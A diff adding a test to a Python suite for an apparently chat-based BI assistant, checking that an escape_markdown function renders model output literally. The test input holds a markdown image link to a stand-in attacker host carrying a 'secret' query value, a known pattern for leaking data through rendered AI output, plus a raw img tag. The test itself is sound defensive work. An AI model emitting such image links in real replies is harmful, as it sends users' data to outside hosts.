@@ -190,3 +190,10 @@ def test_turn_history_skips_failed_questions(session, replay_conn):
     history = [Turn("q1", "SELECT 1"), Turn("q2", None), Turn("q3", "SELECT 3")]
     assert [m["content"] for m in history_messages(history)] == ["q1", "```sql\nSELECT 1\n```", "q3",
                                                                   "```sql\nSELECT 3\n```"]
+
+
+def test_model_text_is_shown_literally_not_as_markdown():
+    from services.chatbi.assistant import escape_markdown
+    shown = escape_markdown("Sales ![pixel](http://evil.example/?d=secret) rose *12.5%* <img src=x>")
+    assert "![" not in shown and "](" not in shown and "<img" not in shown
+    assert shown.replace("\\", "") == "Sales ![pixel](http://evil.example/?d=secret) rose *12.5%* <img src=x>"
